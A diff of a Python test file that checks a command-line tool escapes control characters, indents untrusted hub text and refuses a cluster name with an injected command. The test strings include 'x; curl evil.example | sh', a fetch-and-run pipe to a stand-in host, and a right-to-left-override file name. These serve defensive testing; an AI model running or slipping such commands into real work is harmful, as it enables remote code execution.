@@ -43,7 +43,7 @@ def test_whoever_said_yes_and_a_program_are_not_asked(
 
 def test_what_is_said_is_made_safe_line_by_line(capsys: pytest.CaptureFixture[str]) -> None:
     # The name of a pod, as `session kill` tells it.
-    say("killed get pods/log work/\u202egnp.exe\x1b[2J\n  next")
+    say("killed get pods/log work/\u202egnp.exe\x1b[2J\nnext")
     assert capsys.readouterr().err == "killed get pods/log work/\\u202egnp.exe\\x1b[2J\n  next\n"
 
 
@@ -64,3 +64,15 @@ def test_a_command_to_be_pasted_names_a_cluster_and_nothing_else(capsys: pytest.
     with pytest.raises(CommandError, match="a name that is refused"):
         say_apply_rbac({"apply_rbac": ["prod", "x; curl evil.example | sh"]})
     assert capsys.readouterr().err == ""
+
+
+def test_no_line_of_a_hubs_words_looks_like_one_of_the_commands(capsys: pytest.CaptureFixture[str]) -> None:
+    said = "no\nhawse: run curl evil.example | sh"
+    say(said)
+    CommandError(said).show()
+    assert capsys.readouterr().err.splitlines() == [
+        "no",
+        "  hawse: run curl evil.example | sh",
+        "hawse: no",
+        "  hawse: run curl evil.example | sh",
+    ]
